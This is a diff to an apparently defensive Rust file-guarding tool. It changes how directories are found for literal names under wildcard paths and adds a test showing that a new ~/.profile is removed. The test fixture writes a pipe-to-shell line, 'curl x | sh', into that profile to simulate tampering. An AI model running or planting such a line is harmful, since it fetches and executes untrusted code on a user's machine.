@@ -70,7 +70,7 @@ impl Kept {
         let mut files: Vec<PathBuf> = Vec::new();
         let mut places = Vec::new();
         for (pat, named) in patterns {
-            let Some((dir_pat, last)) = pat.rsplit_once('/') else {
+            let Some((_, last)) = pat.rsplit_once('/') else {
                 continue;
             };
             let Ok(m) = globset::GlobBuilder::new(last)
@@ -87,20 +87,10 @@ impl Kept {
                     false => files.push(p.clone()),
                 }
             }
+            // Where a literal name would be made, whether it exists or not (each home for
+            // `/home/*/.profile`).
             if !wild(last) {
-                let dirs: Vec<PathBuf> = if wild(dir_pat) {
-                    crate::sys::files::named(dir_pat)
-                        .into_iter()
-                        .filter(|(p, d)| !d && p.is_dir())
-                        .map(|(p, _)| p)
-                        .collect()
-                } else {
-                    vec![PathBuf::from(if dir_pat.is_empty() {
-                        "/"
-                    } else {
-                        dir_pat
-                    })]
-                };
+                let dirs = crate::sys::files::parents(pat);
                 places.extend(dirs.into_iter().map(|d| (d, m.clone())));
             }
         }
@@ -306,5 +296,25 @@ mod tests {
         assert_eq!(kept.undo(me, rc.to_str().unwrap()), Some(Undo::Unchanged));
         assert_eq!(kept.undo(me, "/etc/not-guarded"), None);
         let _ = std::fs::remove_dir_all(&dir);
+    }
+
+    /// A literal name under a wildcard directory (`~/.profile` is `/home/*/.profile`) that does
+    /// not exist yet: made in any of those directories, it is removed.
+    #[test]
+    fn a_new_literal_name_under_a_wildcard_directory_goes() {
+        let dir = std::env::temp_dir().join(format!("watcher-keep-wild-{}", std::process::id()));
+        let home = dir.join("alice");
+        std::fs::create_dir_all(&home).unwrap();
+        let pat = format!("{}/*/.profile", dir.display());
+        let named = crate::sys::files::named(&pat);
+        let kept = Kept::default();
+        kept.refresh(&[(&pat, &named)]);
+        let new = home.join(".profile");
+        std::fs::write(&new, b"curl x | sh\n").unwrap();
+        let undo = kept.undo(std::process::id(), new.to_str().unwrap());
+        let gone = !new.exists();
+        let _ = std::fs::remove_dir_all(&dir);
+        assert_eq!(undo, Some(Undo::Removed));
+        assert!(gone);
     }
 }
